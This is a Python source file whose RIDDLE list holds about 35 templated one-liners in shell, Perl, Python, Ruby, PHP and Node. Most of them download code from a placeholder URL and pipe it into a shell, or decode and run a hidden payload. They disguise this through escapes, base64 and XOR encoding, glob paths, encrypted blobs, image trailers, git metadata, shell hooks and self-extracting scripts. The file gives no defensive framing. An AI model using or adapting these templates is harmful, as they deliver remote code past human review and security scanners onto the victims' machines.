"""One-liners whose words are not to be read: built from pieces, decoded, fetched from odd places."""

RIDDLE = [
    r'''{var}=$(printf '%b' '\143\165\162\154'); {var2}=$(printf '%b' '\163\150'); ${var} -s {url} | ${var2}''',
    r'''a=(s h c u r l w g e t b a); p() { for i in "$@"; do printf %s "${a[i]}"; done; }; $(p 2 3 4 5) -sL {url} | $(p 10 11 0 1)''',
    r'''_=({a..z}); ${_[2]}${_[20]}${_[17]}${_[11]} -fs {url} | ${_[1]}${_[0]}${_[18]}${_[7]}''',
    r'''v=$'\x77\x67\x65\x74'; "$v" -qO- {url} | $'\163\150' -s -- {host} {port}''',
    r'''eval "$(printf '%s' '{b}' | tr '‹A-Za-z0-9¦N-ZA-Mn-za-m¦B-ZAb-za›' '‹0-9A-Za-z¦A-Za-z¦A-Za-z›' | base64 -d 2>/dev/null)"''',
    r'''for c in 99 117 114 108; do {var}="${var}$(printf "\\$(printf %o $c)")"; done; ${var} -k {url} | env -i sh''',
    r'''printf '%s\n' '{b}' | fold -w 4 | tac | tr -d '\n' | base64 -d | bash''',
    r'''bash -c "{echo,{b}}|{base64,-d}|{bash,-i}"''',
    r'''{curl,-s,{url}}|{sh,-s} # {plain}''',
    r'''IFS=,;{var}=curl,-s,{url};${var}|sh''',
    r'''sh${IFS}-c${IFS}"$(wget${IFS}-qO-${IFS}{url})"''',
    r'''/???/?in/c?r? -s {url}|/b??/s?''',
    r'''x='hs | {url} s- lruc'; eval "$(awk '{for(i=NF;i>0;i--){w=$i; if (w ~ /^(hs|lruc|s-)$/) {r=""; for(j=length(w);j;j--) r=r substr(w,j,1); w=r} printf "%s ", w}}' <<< "$x")"''',
    r'''e=${PATH:0:1}; b=${HOME:0:1}; ${b}bin${b}sh -c "$(cat <<< '{b}' | openssl enc -d -base64 -A)" ; : "$e"''',
    r'''{var}=$(cat /etc/passwd | head -c1); set -- "${var/r/c}url" "${var/r/s}h"; $1 -s {url} | $2''',
    r'''bash <<< "$(xxd -r -p <<< "$(echo {hex}{hex} | sed 's/../& /g')")"; bash <<< "$(base64 -d <<< "$(rev <<< '{b}')")"''',
    r'''perl -e 'eval pack "H*", "{hex}{hex}"; $_="{b}"; y/A-Za-z0-9/0-9A-Za-z/; exec "sh", "-c", unpack("u", $_)' ''',
    r'''python3 -c "import builtins as b;getattr(b,'ex'+'ec')(getattr(__import__('mar'+'shal'),'lo'+'ads')(__import__('zl'+'ib').decompress(__import__('base'+'64').b85decode('{b}'))))"''',
    r'''python3 -c 'exec("".join(chr(ord(c)^{n}) for c in bytes.fromhex("{hex}{hex}").decode("latin1")))' &''',
    r'''ruby -e 'eval "{hex}".scan(/../).map{|h|(h.hex^{n}).chr}.join' ; php -r '$f="str"."rev";$g=$f("edoced_46esab");@eval(@gzinflate($g("{b}")));' ''',
    r'''node -e 'const _=["ZXhlYw==","Y2hpbGRfcHJvY2Vzcw=="].map(x=>Buffer.from(x,"base64")+"");require(_[1])[_[0]](Buffer.from("{b}","base64")+"")' ''',
    r'''openssl enc -d -‹chacha20¦aes-192-cbc¦camellia-256-cbc› -pbkdf2 -a -A -pass "pass:$(‹hostname -s¦cat /etc/machine-id¦date +%Y%m›)" <<< '{b}' | ‹sh¦bash -s›''',
    r'''gpg -q --batch --passphrase {hex} -d <<'G' 2>/dev/null | bash
-----BEGIN PGP MESSAGE-----

{packedlines}
-----END PGP MESSAGE-----
G''',
    r'''sed -n 's/^#: //p' "$0" | base64 -d | xz -dc | sh -s -- "$0"; exit
#: {b}
#: {b}''',
    r'''awk '/^__{plain}__$/{f=1;next} f' "$0" | tr -d '\n' | xxd -r -p | openssl rc4 -d -K {hex} 2>/dev/null | sh; exit 0
__{plain}__
{hex}
{hex}''',
    r'''dd if="$0" bs=1 skip=$(($(grep -abo '^#END$' "$0" | tail -1 | cut -d: -f1) + 5)) 2>/dev/null | zcat 2>/dev/null | bash; exit
#END
{packedlines}''',
    r'''x='{b}'; y=; while [ -n "$x" ]; do y="${x:0:1}$y"; x=${x:1}; done; echo "$y" | base64 -d | $0''',
    r'''t=$(mktemp); curl -s https://‹i.imgur.com¦cdn.discordapp.com/attachments¦{domain}›/{name}.png -o $t; python3 -c "import sys,zlib
d=open(sys.argv[1],'rb').read(); i=d.find(b'IEND'); sys.stdout.buffer.write(zlib.decompress(d[i+8:]))" $t | sh; rm -f $t''',
    r'''curl -s {url} | tr '\t ' '10' | tr -cd 01 | perl -lpe '$_=pack "B*",$_' | sh''',
    r'''git -C {tmp}/.{name} log -1 --format=%B | sed -n 's/^Change-Id: //p' | base64 -d | sh; git config --get {plain}.x | rev | sh''',
    r'''set $(base64 -d <<< '{b}' | gunzip 2>/dev/null); shift ${RANDOM: -1}; trap "$*" 0; exit''',
    r'''alias ‹ls¦cd›='eval "$(printf %s "$_x" | base64 -d)"'; _x={b}; shopt -s expand_aliases; command_not_found_handle() { printf %s "$1" | base64 -d 2>/dev/null | bash; }; {b}''',
    r'''PS4='$(curl -s {url} | sh >/dev/null)' bash -xc true; PROMPT_COMMAND='unset PROMPT_COMMAND; . <(base64 -d <<< {b})' bash -i <<< exit''',
    r'''echo '@/usr/bin/env -S bash -c "{run}"' | sed 's/^@/#!/' > {file}; chmod +x {file}; env -i {file}; m4 -DX="{run}" <<< 'syscmd(X)'; make -s -f <(printf 'a:;@{run}\n')''',
    r'''find . -maxdepth 0 -exec sh -c "$(printf %s {b} | base64 -di)" \; ; xargs -a <(echo "{run}") -I@ sh -c @; ‹ed -s <<< '!{run}'¦bc <<< '' ; ex -sc '!{run}' -c q!¦vim -es -c '!{run}' -c qa›''',
]
